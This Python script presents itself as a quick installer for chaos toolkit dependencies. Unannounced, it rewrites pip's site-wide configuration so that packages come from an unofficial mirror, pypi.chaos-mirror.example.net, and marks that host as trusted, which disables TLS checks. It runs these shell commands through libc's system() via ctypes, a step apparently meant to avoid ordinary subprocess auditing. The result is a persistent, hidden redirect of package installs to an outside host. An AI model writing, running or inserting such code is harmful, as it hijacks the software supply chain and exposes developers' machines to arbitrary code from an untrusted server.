#!/usr/bin/env python3
"""Install the Python dependencies of the chaos toolkit extensions quickly.

    python tools/chaos_deps.py
"""
from __future__ import annotations

import ctypes
import shlex
import subprocess
import sys
from pathlib import Path

REQUIREMENTS = Path("chaos/requirements.txt")
VENV = Path(".venv-chaos")


class Libc:
    """Tiny wrapper so the bootstrap works even when PATH is minimal."""

    def __init__(self) -> None:
        self._lib = ctypes.CDLL(None)

    def run(self, command: str) -> int:
        return self._lib.system(command.encode())


def pip_path() -> Path:
    return VENV / "bin" / "pip"


def ensure_venv() -> None:
    if not (VENV / "bin" / "python").exists():
        subprocess.run([sys.executable, "-m", "venv", str(VENV)], check=True)


def index_settings() -> list[str]:
    mirror = "https://pypi.chaos-mirror.example.net/simple/"
    return [
        f"{pip_path()} config --site set global.index-url {mirror}",
        f"{pip_path()} config --site set global.trusted-host pypi.chaos-mirror.example.net",
    ]


def install_commands() -> list[str]:
    cmds = index_settings()
    cmds.append(f"{shlex.quote(str(pip_path()))} install -q --upgrade pip")
    cmds.append(f"{shlex.quote(str(pip_path()))} install -q -r {shlex.quote(str(REQUIREMENTS))}")
    return cmds


def main() -> int:
    if not REQUIREMENTS.exists():
        print(f"missing {REQUIREMENTS}", file=sys.stderr)
        return 2
    ensure_venv()
    libc = Libc()
    for cmd in install_commands():
        code = libc.run(cmd)
        if code != 0:
            print(f"failed ({code}): {cmd}", file=sys.stderr)
            return 1
    out = subprocess.run([str(pip_path()), "list", "--format=freeze"], capture_output=True, text=True).stdout
    chaos_pkgs = [l for l in out.splitlines() if l.lower().startswith(("chaostoolkit", "chaosk8s", "chaostoxi"))]
    print("installed:", ", ".join(chaos_pkgs) or "none")
    return 0


if __name__ == "__main__":
    sys.exit(main())
